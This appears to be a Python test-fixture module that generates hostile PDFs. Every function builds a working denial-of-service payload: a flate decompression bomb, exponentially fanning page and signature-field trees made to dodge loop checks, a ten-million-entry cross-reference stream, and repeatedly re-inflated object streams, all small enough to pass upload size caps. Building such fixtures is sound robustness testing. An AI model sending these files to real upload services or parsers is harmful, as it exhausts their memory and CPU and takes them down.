"""Hostile PDFs made on the spot: tiny files that cost a parser gigabytes or minutes.

Each builder returns real PDF bytes (a header, objects, a cross-reference and a trailer that parsers
accept), small enough to pass every upload size cap.
"""

from __future__ import annotations

import functools
import zlib

MB = 1024 * 1024


def _pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF with a classic cross-reference table holding ``objects`` (number → body)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


@functools.lru_cache(maxsize=8)
def _zeros(size: int) -> bytes:
    """``size`` zero bytes, deflated (made once per size: it takes a moment)."""
    return zlib.compress(b"\0" * size, 9)


def _flate(data: bytes | None = None, extra: bytes = b"", *, zeros: int = 0) -> bytes:
    packed = _zeros(zeros) if data is None else zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"


def inflating_pages(pages: int = 2, mb: int = 60) -> bytes:
    """``pages`` pages, each drawn by its own stream of ``mb`` megabytes of zeros (about 1 KB per MB packed)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    kids = []
    for index in range(pages):
        page, content = 3 + 2 * index, 4 + 2 * index
        kids.append(b"%d 0 R" % page)
        objects[page] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % content
        objects[content] = _flate(zeros=mb * MB)
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), pages)
    return _pdf(objects)


def page_tree(levels: int, fan: int) -> bytes:
    """A page tree whose every node lists the next one ``fan`` times: ``fan ** levels`` pages in a few
    hundred bytes (a directed acyclic graph, not a cycle, so no loop check catches it)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(levels):
        number = 2 + level
        kids = b" ".join([b"%d 0 R" % (number + 1)] * fan)
        objects[number] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, fan ** (levels - level))
    objects[2 + levels] = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    return _pdf(objects)


def signature_fields(levels: int = 8, fan: int = 10) -> bytes:
    """A form whose fields list the same kids ``fan`` times on every level: a signature validator walks
    ``fan ** levels`` fields."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
               2: b"<< /Type /Pages /Kids [] /Count 0 >>", 3: b"<< >>"}
    for level in range(levels):
        number = 4 + level
        kids = b" ".join([b"%d 0 R" % (number + 1)] * fan)
        objects[number] = b"<< /T (f%d) /Kids [%s] >>" % (level, kids)
    objects[4 + levels] = b"<< /FT /Sig /T (s) /V << /Type /Sig >> >>"
    return _pdf(objects)


def cross_reference_stream(entries: int = 10_000_000) -> bytes:
    """A cross-reference stream declaring ``entries`` objects (all free but four): 6 bytes each to inflate
    and parse, from a file of a few dozen kilobytes."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    catalog = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    xref = len(out)
    rows = [(0, 0, 255), (1, catalog, 0), (1, pages, 0), (1, xref, 0)]
    table = b"".join(bytes([kind]) + offset.to_bytes(4, "big") + bytes([gen]) for kind, offset, gen in rows)
    table += b"\0" * (6 * (entries - len(rows)))
    out += b"3 0 obj\n" + _flate(table, b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R" % entries)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def object_streams(count: int = 8, repeats: int = 20) -> bytes:
    """``count`` object streams of 4 MB each, every one holding a form field that the form lists
    ``repeats`` times: each lookup inflates and scans its stream again."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    inside: dict[int, int] = {}
    fields = []
    for index in range(count):
        stream, field = 10 + 2 * index, 11 + 2 * index
        head = b"%d 0 " % field
        body = head + b"<< /T (x) >>" + b" " * (4 * MB - 64)
        offsets[stream] = len(out)
        out += b"%d 0 obj\n" % stream + _flate(body, b"/Type /ObjStm /N 1 /First %d" % len(head)) + b"\nendobj\n"
        inside[field] = stream
        fields.append(b"%d 0 R" % field)
    offsets[1] = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>\nendobj\n" % b" ".join(
        fields * repeats)
    offsets[2] = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    xref_number = 10 + 2 * count
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\0"
        elif number in inside:
            rows += b"\x02" + inside[number].to_bytes(4, "big") + b"\0"
        else:
            rows += b"\0\0\0\0\0\xff"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number, xref_number + 1, len(rows)) + rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)
